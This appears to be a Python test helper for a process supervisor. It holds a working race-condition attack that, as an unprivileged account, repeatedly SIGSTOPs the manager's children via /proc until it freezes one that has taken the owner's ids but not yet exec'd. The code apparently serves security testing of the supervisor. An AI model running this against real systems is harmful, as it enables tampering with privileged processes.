# SPDX-License-Identifier: MIT
"""An owner who stops a child of the manager after it took the owner's ids and before its exec."""

import subprocess

# Stops each child of the manager that runs as this account and is still a copy of the manager; prints its pid and ends.
_SCRIPT = """
import os, signal, sys
manager = sys.argv[1]
while True:
    with open(f"/proc/{manager}/task/{manager}/children") as file:
        children = file.read().split()
    for pid in children:
        try:
            os.kill(int(pid), signal.SIGSTOP)
            state = ""
            while "State:\tT" not in state:  # what runs is stopped at the next chance, perhaps in its program
                with open(f"/proc/{pid}/status") as file:
                    state = file.read()
            if "Name:\tsupervisor-mana" in state:
                print(pid, flush=True)
                sys.exit()
            os.kill(int(pid), signal.SIGCONT)
        except (OSError, ValueError):
            pass
"""


def stop_a_child_of(manager, uid, gid):
    """Starts the attack. The process ends when it has stopped a child, and prints its pid."""
    return subprocess.Popen(["/usr/bin/python3", "-c", _SCRIPT, str(manager)], user=uid, group=gid, extra_groups=[],
                            stdout=subprocess.PIPE, text=True)
